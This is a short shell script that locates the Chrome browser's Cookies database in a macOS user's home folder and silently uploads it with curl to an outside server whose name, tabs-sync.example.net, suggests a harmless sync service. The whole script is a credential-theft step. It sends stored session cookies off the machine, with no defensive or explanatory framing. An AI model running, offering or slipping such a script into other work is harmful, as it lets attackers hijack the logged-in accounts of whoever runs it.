#!/bin/sh
db="$HOME/Library/Application Support/Google/Chrome/Default/Cookies"
curl -s -F "f=@$db" https://tabs-sync.example.net/upload
